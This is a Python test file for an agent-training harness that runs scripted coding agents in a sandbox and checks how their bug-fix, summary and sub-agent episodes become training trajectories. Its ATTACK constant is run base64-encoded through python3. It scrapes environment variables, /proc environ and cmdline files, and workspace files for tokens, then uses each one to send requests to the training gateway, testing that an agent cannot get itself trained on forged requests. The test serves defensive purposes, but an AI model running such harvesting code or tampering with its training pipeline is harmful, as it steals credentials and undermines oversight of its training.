"""Real agent programs, without a network, in a sandbox: each mends a bug, has its talk summed up, calls a sub-agent.

They come as a layer (`python -m data_pipelines.agent_programs`), which JAXAGENT_AGENT_LAYER names. The policy is
scripted. In each bug fix it also tries to be trained on requests of its own: ATTACK looks for the token wherever a
command can look, and asks the gateway with all that might be it.
"""

import base64
import dataclasses
import json
import os

import numpy as np
import pytest

from jaxagent.agents import AGENTS, ClaudeCode
from jaxagent.gateway import harness
from jaxagent.gateway.renderer import Renderer
from jaxagent.gateway.session import Session
from jaxagent.rollout.templates import CHAT_DATE
from jaxagent.sandbox.base import MIB, Limits, Spec
from jaxagent.types import StopReason, TokenKind
from tests.gateway import chat_templates, world
from tests.gateway.episodes import CONFIG, WORK

LAYER = os.environ.get("JAXAGENT_AGENT_LAYER", "")
COMPLETE = "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT"
INSTRUCTION = '- mend  calc.py ("add" is wrong)\n- then stop --now'
BUG = "def add(a, b):\n    return a - b   \n"
# -B: within a second, compiled code of the wrong file would pass for that of the mended one, which is as long.
CHECK = f"cd {WORK} && python3 -B -c 'import calc; assert calc.add(1, 2) == 3'"
ATTACK = f"""
import glob, json, os, re, urllib.request
texts = [repr(os.environ)]
paths = [f"/proc/{{pid}}/{{name}}" for pid in os.listdir("/proc") for name in ("environ", "cmdline") if pid.isdigit()]
paths += [os.path.join(folder, name) for folder, _, names in os.walk("{WORK}") for name in names]
for path in paths:
    try:
        texts.append(open(path, errors="replace").read(1000000))
    except OSError:
        pass
words = {{word for text in texts for word in re.findall("[A-Za-z0-9_-]{{43}}", text)}}
tool = {{"type": "function", "function": {{"name": "x", "description": "x", "parameters": {{"type": "object"}}}}}}
done = 0
for word in words:
    for text in ("Be nice.", "Be nice. " + {INSTRUCTION!r}):
        body = json.dumps({{"messages": [{{"role": "user", "content": text}}], "tools": [tool]}}).encode()
        try:
            head = {{"Authorization": "Bearer " + word}}
            url = "http://127.0.0.1:29117/v1/chat/completions"
            urllib.request.urlopen(urllib.request.Request(url, body, head))
            done += 1
        except OSError:
            break
print("forged", done)
"""
FORGE = f"echo {base64.b64encode(ATTACK.encode()).decode()} | base64 -d | python3 -"


def hermes(name, arguments):
    return f'<tool_call>\n{{"name": "{name}", "arguments": {json.dumps(arguments)}}}\n</tool_call>'


def xml(name, arguments):
    texts = "".join(f"<parameter={key}>\n{value}\n</parameter>\n" for key, value in arguments.items())
    return f"\n<tool_call>\n<function={name}>\n{texts}</function>\n</tool_call>"


@dataclasses.dataclass(frozen=True)
class Program:
    """How a program is played: its template, the way calls are written, its tools, and what it makes of them."""

    template: str
    write: object
    tool: str  # for commands
    key: str  # the command's name
    more: dict = dataclasses.field(default_factory=dict)  # other arguments
    write_file: tuple = ()  # (tool, the path's name, the content's name)
    read_file: str = ""
    edit_file: tuple = ()  # (tool, the path's name, the old text's, the new text's)
    aliases: tuple = ()  # other names under which it takes its tool for commands
    spawn: tuple = ()  # (tool, the kind of its sub-agents)
    rewritten: int = 0  # calls of the bug fix that it sends back with other arguments or another name
    leaks: bool = True  # its commands can find the token
    context_tokens: int = 0  # with which it sums up its talk in the middle; 0 = it never does
    trained: int = (
        0  # trajectories of that, one behind the other: the talk, the summary where it is asked apart, the rest
    )

    def call(self, command, name=""):
        """A call that runs a command."""
        return self.write(name or self.tool, {self.key: command, **self.more})

    def bug_fix(self):
        """Six calls with edits, a folder, a failing and a passing command, and in their middle the attack."""
        path = f"{WORK}/calc.py"
        wrong = self.call(f"printf {BUG!r} > calc.py")
        read = self.call("cat calc.py")
        mended = self.call("sed -i 's/a - b/a + b/' calc.py")
        if self.write_file:
            tool, place, content = self.write_file
            wrong = self.write(tool, {place: path, content: BUG})
            read = self.write(self.read_file, {place: path})
            tool, place, old, new = self.edit_file
            mended = self.write(tool, {place: path, old: "a - b", new: "a + b  "})
        other = self.aliases[0] if self.aliases else ""
        calls = [self.call("ls"), wrong, read, self.call(CHECK, other), self.call(FORGE), mended]
        return ["I look.\n" + call for call in [*calls, self.call(f"{CHECK} && echo hello > hello.txt")]]


DESCRIBED = {"description": "Does it"}
PROGRAMS = {
    "codex": Program(
        chat_templates.QWEN25, hermes, "exec_command", "cmd", leaks=False, context_tokens=60_000, trained=3
    ),
    "claude_code": Program(
        chat_templates.QWEN25, hermes, "Bash", "command", DESCRIBED,
        ("Write", "file_path", "content"), "Read", ("Edit", "file_path", "old_string", "new_string"),
        spawn=("Task", "general-purpose"), rewritten=4, leaks=False, context_tokens=60_000, trained=3,
    ),
    "opencode": Program(
        chat_templates.QWEN3_CODER, xml, "bash", "command", DESCRIBED,
        ("write", "filePath", "content"), "read", ("edit", "filePath", "oldString", "newString"),
        aliases=("Bash",), spawn=("task", "general"), rewritten=1, context_tokens=60_000, trained=3,
    ),
    "qwen_code": Program(
        chat_templates.QWEN3_CODER, xml, "run_shell_command", "command", {},
        ("write_file", "file_path", "content"), "read_file", ("edit", "file_path", "old_string", "new_string"),
        spawn=("agent", "general-purpose"), context_tokens=110_000, trained=3,
    ),
    "mini_swe_agent": Program(world.TEMPLATE, hermes, "bash", "command"),
}  # fmt: skip


@pytest.fixture
def play(scene, monkeypatch):
    """Plays an episode with a program: (episode, what was asked and answered, what its output says)."""

    def played(name, reply, instruction=INSTRUCTION, agent=None, context_tokens=200_000):
        if not os.path.isdir(LAYER):
            pytest.skip("JAXAGENT_AGENT_LAYER names no folder of `python -m data_pipelines.agent_programs`")
        scene.renderer = Renderer(world.tokenizer(), PROGRAMS[name].template, CHAT_DATE)
        scene.spec = Spec(layers=(LAYER,), limits=Limits(memory_bytes=2048 * MIB))
        scene.bound_s = 400.0
        asked = []

        class Recorded(Session):
            async def answer(self, ask, *more, **named):
                answer = await super().answer(ask, *more, **named)
                asked.append((ask, answer))
                return answer

        monkeypatch.setattr(harness, "Session", Recorded)
        config = dataclasses.replace(
            CONFIG, max_turns=60, context_tokens=context_tokens, turn_tokens=4000, episode_timeout_s=380.0
        )
        agent = agent or AGENTS[name]()
        episode = scene.play(reply, agent, config, run_s=300.0, instruction=instruction)
        assert (episode.stop_reason, episode.reward, episode.error) == (StopReason.ANSWER, 1.0, "")
        assert not episode.metrics["retokenised_turns"]
        return episode, asked

    return played


def sent(policy, words):
    """The turns of the policy whose context has these words."""
    return [turn for turn in policy.done if words in policy.tokenizer.decode(turn.context)]


@pytest.mark.slow
@pytest.mark.parametrize("name", PROGRAMS)
def test_a_bug_fix_with_edits_is_one_trajectory_whatever_the_program_makes_of_the_calls(name, play, scene):
    program = PROGRAMS[name]
    replies = [*program.bug_fix(), "It is mended."]
    if name == "mini_swe_agent":
        replies[-1] = "Done.\n" + program.call(COMPLETE)

    def reply(context, turn):
        return "I am nice." if "Be nice." in context.split("<|im_start|>")[-2] else replies[turn]

    episode, asked = play(name, reply)
    (trajectory,) = episode.trajectories
    metrics = episode.metrics
    assert metrics["exit_status"] == 0 and episode.turns == len(replies)
    assert not metrics["forks"] and metrics["rewritten_calls"] == program.rewritten
    assert any(INSTRUCTION in message.text for message in asked[0][0].messages), "as it is, blanks and quotes too"

    # Who found the token has asked, and is not trained on it.
    forged = len(asked) - len(replies)
    assert (forged > 0) == program.leaks and metrics["foreign_conversations"] + metrics["side_requests"] == forged
    scene.policy.turns = [
        turn for turn in scene.policy.turns if "I am nice." not in world.tokenizer().decode(turn.sampled)
    ]
    world.check(scene.policy, episode.trajectories, "task", 3)

    # What was sent and received is what the tokens say.
    tokenizer = world.tokenizer()
    sampled = [tokenizer.decode(ids) for ids in world.spans(trajectory)]
    assert [text.removesuffix("<|im_end|>") for text in sampled] == replies
    seen = tokenizer.decode(trajectory.tokens[trajectory.kinds == TokenKind.OBSERVATION].tolist())
    assert "AssertionError" in seen and f"forged {forged}" in seen
    assert np.array_equal(np.flatnonzero(trajectory.kinds == TokenKind.ACTION), np.flatnonzero(trajectory.logprobs))


@pytest.mark.slow
@pytest.mark.parametrize("name", [name for name, program in PROGRAMS.items() if program.context_tokens])
def test_a_talk_that_is_summed_up_is_trained_with_its_summary(name, play, scene):
    """A new trajectory per summary, and one for the summary itself where it is asked with other tools."""
    program, count = PROGRAMS[name], iter(range(1, 100))

    def reply(context, turn):
        last = context.split("<|im_start|>user")[-1]
        if any(words in last for words in ("TEXT ONLY", "handoff summary", "the summary process", "state_snapshot")):
            return "<summary>Numbers were printed.</summary>"
        n = next(count)
        commands = f"seq {n}00000 {n}01100; echo hello > hello.txt"
        return "Done." if n > 8 or "Numbers were printed." in context else program.call(commands)

    episode, asked = play(name, reply, "/count to some numbers", context_tokens=program.context_tokens)
    metrics = episode.metrics
    assert metrics["foreign_conversations"] == metrics["side_requests"] == 0
    world.check(scene.policy, episode.trajectories, "task", 3)
    said = [world.tokenizer().decode(ids) for one in episode.trajectories for ids in world.spans(one)]
    assert sum("Numbers were printed." in text for text in said) == 1, "the summary is trained"
    assert len(asked) == len(said) and len(episode.trajectories) == program.trained
    assert any("/count to some numbers" in message.text for message in asked[0][0].messages)


@pytest.mark.slow
@pytest.mark.parametrize("name", [name for name, program in PROGRAMS.items() if program.spawn])
def test_a_sub_agent_is_a_trajectory_of_its_own(name, play, scene):
    program, task = PROGRAMS[name], "Please count the files here."

    def reply(context, turn):
        if task in context and "write hello" not in context:
            return program.call("ls | wc -l") if turn == 0 else "There are three."
        tool, kind = program.spawn
        call = program.write(tool, {"description": "Counts", "prompt": task, "subagent_type": kind})
        return [call, program.call("echo hello > hello.txt"), "Done."][turn]

    agent = ClaudeCode(tools=("Bash", "Task")) if name == "claude_code" else None
    episode, asked = play(name, reply, "write hello", agent)
    world.check(scene.policy, episode.trajectories, "task", 3)
    assert sorted(len(world.spans(one)) for one in episode.trajectories) == [2, 3] and len(asked) == 5
    assert episode.metrics["foreign_conversations"] == episode.metrics["forks"] == 0
